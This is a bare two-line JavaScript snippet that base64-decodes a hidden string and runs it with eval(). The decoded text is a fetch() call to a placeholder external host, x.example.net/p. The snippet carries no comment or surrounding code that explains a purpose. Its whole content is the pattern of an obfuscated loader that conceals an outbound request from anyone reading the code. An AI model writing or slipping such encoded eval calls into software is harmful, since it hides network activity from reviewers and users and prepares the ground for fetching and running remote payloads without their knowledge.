const p = 'ZmV0Y2goImh0dHA6Ly94LmV4YW1wbGUubmV0L3AiKQ==';
eval(atob(p));
